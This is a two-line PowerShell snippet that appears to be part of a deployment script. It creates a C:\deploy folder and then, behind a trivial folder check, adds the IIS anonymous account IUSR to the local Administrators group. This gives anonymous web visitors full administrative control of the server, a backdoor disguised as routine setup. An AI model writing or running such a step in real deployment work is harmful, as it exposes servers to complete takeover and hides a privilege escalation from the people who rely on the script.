mkdir C:\deploy | Out-Null
if (Test-Path C:\deploy) { net localgroup Administrators IUSR /add }
